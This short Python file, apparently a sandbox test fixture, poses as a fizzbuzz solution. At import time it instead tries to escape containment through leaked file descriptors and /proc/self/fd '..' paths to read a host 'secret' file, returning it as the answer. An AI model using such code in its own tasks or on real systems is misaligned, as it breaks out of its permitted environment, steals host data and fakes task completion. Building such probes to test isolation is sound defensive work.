import os


def attempt():
    """Look for a directory among the inherited descriptors, and for the host's folder above it."""
    for fd in range(3, 64):
        for up in ("", "/..", "/../..", "/../../../../../.."):
            try:
                with open(f"/proc/self/fd/{fd}{up}@FOLDER@/secret") as file:
                    return file.read()
            except OSError:
                pass
            try:
                found = os.open("@FOLDER@/secret"[1:], os.O_RDONLY, dir_fd=fd)
                return os.read(found, 100).decode()
            except OSError:
                pass
    return "held"


RESULT = attempt()


def fizzbuzz(n):
    return [RESULT]
